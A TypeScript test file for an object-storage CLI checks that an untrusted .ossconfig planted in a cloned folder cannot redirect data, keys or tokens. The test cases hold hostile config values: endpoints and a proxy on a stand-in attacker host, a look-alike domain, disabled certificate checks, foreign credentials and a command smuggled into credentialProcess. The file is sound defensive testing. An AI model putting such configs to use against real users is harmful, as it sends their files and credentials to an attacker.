// A working directory that somebody else has furnished: a cloned repository, a folder in /tmp. Its .ossconfig must not get
// at data, keys, tokens or signatures. The hosts it names are reached through a proxy, which sees whatever is sent.
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { expectTextFailure } from '../support/failures.ts';
import { test as base } from '../support/in-process.ts';
import { startProxy, type TestProxy } from '../support/proxy.ts';

const URL = 'oss://demo/app.log';
const COMMANDS = [
  `append app.log ${URL}`,
  `append - ${URL}`,
  `append app.log ${URL} --position 0`,
  `append app.log ${URL} --follow`,
  `head ${URL}`,
  `tail ${URL}`,
];

interface Fixtures {
  readonly proxy: TestProxy;
  /** A key with a token, and the proxy. */
  readonly env: Readonly<Record<string, string>>;
  readonly plant: (content: object) => Promise<string>;
}

const test = base.extend<Fixtures>({
  proxy: async ({ sandbox }, use) => {
    await use(await startProxy({ port: sandbox.port }));
  },
  env: async ({ proxy, sandbox }, use) => {
    const url = `http://127.0.0.1:${proxy.port}`;
    const { accessKeyId, accessKeySecret } = sandbox.credentials;
    await use({
      OSS_ACCESS_KEY_ID: accessKeyId,
      OSS_ACCESS_KEY_SECRET: accessKeySecret,
      OSS_SESSION_TOKEN: 'token',
      OSS_REGION: 'cn-hangzhou',
      HTTP_PROXY: url,
      HTTPS_PROXY: url,
    });
  },
  plant: async ({ folder, write }, use) => {
    await use(async (content) => {
      await write('app.log', 'private data');
      const path = join(folder, await write('.ossconfig', JSON.stringify(content)));
      chmodSync(path, 0o600);
      return path;
    });
  },
});

test.for(COMMANDS)(
  '%s sends nothing to the endpoint of an .ossconfig that lies there',
  async (line, { plant, cli, env, proxy }) => {
    await plant({ endpoint: 'http://evil.example', retryTimes: 0, loglevel: 'off' });
    expectTextFailure(await cli(line.split(' '), { env, stdin: 'private data' }), {
      exitCode: 78,
      code: 'ConfigFileNotTrusted',
      message: /\.ossconfig was found, not named: .* http:\/\/demo\.evil\.example/,
      hint: /--config-file \/.*\.ossconfig/,
    });
    expect(proxy.seen).toEqual([]);
  },
);

test.for([
  { endpoint: 'https://evil.example' },
  { endpoint: 'http://oss-cn-hangzhou.aliyuncs.com' },
  { endpoint: 'https://oss-cn-hangzhou.aliyuncs.com.evil.example' },
  { bucketEndpoints: { demo: 'http://evil.example' } },
  { bucketCnames: { demo: 'http://evil.example' } },
  { endpoint: 'http://evil.example', accessKeyId: 'theirs', accessKeySecret: 'theirs' },
  { skipVerifyCert: true },
  { proxyHost: 'http://evil.example:3128' },
  { credentialProcess: 'touch ran' },
])('nor with %j', async (content, { plant, cli, env, proxy }) => {
  await plant({ retryTimes: 0, ...content });
  expectTextFailure(await cli(['append', 'app.log', URL], { env }), {
    exitCode: 78,
    code: 'ConfigFileNotTrusted',
    message: '.ossconfig was found, not named',
  });
  expect(proxy.seen).toEqual([]);
});

test('the same file counts once it is named', async ({ plant, cli, env, proxy, sandbox }) => {
  const path = await plant({ endpoint: 'http://evil.example', retryTimes: 0 });
  const { OSS_SESSION_TOKEN: _, ...key } = env;
  expect(await cli(['append', 'app.log', URL, '-c', path], { env: key })).toMatchObject({
    code: 0,
    stderr: '',
  });
  expect(proxy.seen).toEqual([
    'HEAD http://demo.evil.example/app.log',
    expect.stringContaining('POST http://demo.evil.example/'),
  ]);
  expect((await sandbox.store.read('demo', 'app.log')).toString()).toBe('private data');
});

test("with the file's own key it says where the data goes, whatever its log level", async ({
  plant,
  cli,
  env,
  sandbox,
}) => {
  const { accessKeyId, accessKeySecret } = sandbox.credentials;
  const path = await plant({
    endpoint: 'http://minio.example',
    accessKeyId,
    accessKeySecret,
    region: 'cn-hangzhou',
    loglevel: 'off',
  });
  const { HTTP_PROXY } = env;
  const { code, stderr } = await cli(['append', 'app.log', URL], { env: { HTTP_PROXY } });
  expect({ code, stderr }).toEqual({
    code: 0,
    stderr: `oss-append: warning: ${path}, which was found, not named, has this sent to http://demo.minio.example; if that is right, name it: --config-file ${path} (or OSS_CONFIG_FILE)\n`,
  });
});
